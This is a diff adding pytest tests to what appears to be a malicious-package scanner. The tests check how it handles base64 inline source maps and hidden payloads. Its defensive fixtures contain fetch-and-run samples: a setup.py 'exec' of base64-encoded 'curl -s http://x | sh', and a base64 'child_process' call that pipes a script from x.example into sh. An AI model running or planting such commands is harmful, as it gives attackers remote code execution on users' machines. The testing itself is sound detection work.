@@ -3,6 +3,8 @@ prose, as it is produced, never held whole."""
 
 from __future__ import annotations
 
+import base64
+
 import hypothesis.strategies as st
 from hypothesis import given, settings
 
@@ -106,3 +108,60 @@ def test_a_spliced_views_span_is_its_first_to_last_byte_in_the_buffer(pieces, da
     at = view.span(start, start)
     assert at[0] == at[1] == view.buffer_offset(start)
     assert view.span(len(view), len(view) + 3)[0] == view.span(len(view), len(view) + 3)[1]
+
+
+def _bundle_diff(map_body: bytes, removed: bool) -> bytes:
+    """A release that adds a bundle ending in an inline source map (and, ``removed``, drops a line)."""
+    minus = b"-var old = 1;\n" if removed else b""
+    return (
+        b"diff --git a/dist/index.js b/dist/index.js\n--- a/dist/index.js\n+++ b/dist/index.js\n"
+        b"@@ -1,2 +1,3 @@\n "
+        + b"export const parse = (s) => s.trim();\n"
+        + minus
+        + b"+export default parse;\n"
+        + b"+//# sourceMappingURL=data:application/json;charset=utf-8;base64,"
+        + map_body
+        + b"\n"
+    )
+
+
+def test_an_inline_source_maps_body_is_left_out_of_the_added_view():
+    """A bundler's base64 copy of its sources is no code a model should read as a payload; the
+    line that names it stays, and so does what the release adds around it."""
+    body = base64.b64encode(b'{"version":3,"sourcesContent":["export const parse = (s) => s.trim()"]}' * 8)
+    for removed in (False, True):
+        diff = _bundle_diff(body, removed)
+        name, view = next(iter(scanned_views(diff, added_only=True)))
+        kept = bytes(view)
+        assert name == ADDED and body not in kept and body[:40] not in kept
+        assert b"+export default parse;" in kept and b";base64,\n" in kept
+        assert (b"var old" in kept) is False
+        # a window of the view is still placed in the raw bytes, across the body it left out
+        start = kept.index(b"+export default")
+        at = raw_span(view, start, len(kept))
+        assert at is not None and diff[at[0] : at[1]].startswith(b"+export default parse;")
+        assert diff[at[0] : at[1]].endswith(body + b"\n")
+
+
+def test_a_short_map_or_base64_elsewhere_stays_in_the_view():
+    """Only an inline source map's body is left out, and only a long one: other base64 in code is
+    what a model must still read."""
+    short = base64.b64encode(b'{"version":3}')
+    assert short in added_view(_bundle_diff(short, removed=False))
+    payload = base64.b64encode(b"import os; os.system('curl -s http://x | sh')" * 10)
+    diff = (
+        b"diff --git a/setup.py b/setup.py\n--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1 @@\n"
+        b"+exec(__import__('base64').b64decode('" + payload + b"'))\n"
+    )
+    assert payload in added_view(diff)
+
+
+def test_a_payload_hidden_in_a_source_maps_body_is_still_decoded_by_the_pre_check():
+    """The models skip the body; the pre-check decodes it and blocks what it would run."""
+    from policies.loader import load_policy
+    from worker.core.precheck import run_precheck
+
+    body = base64.b64encode(b"require('child_process').exec('curl -s https://x.example/p.sh | sh'); " * 6)
+    result = run_precheck(_bundle_diff(body, removed=False), load_policy("malicious-package"))
+    assert result.verdict == "harmful"
+    assert "base64" in {e.layer for e in result.evidence}
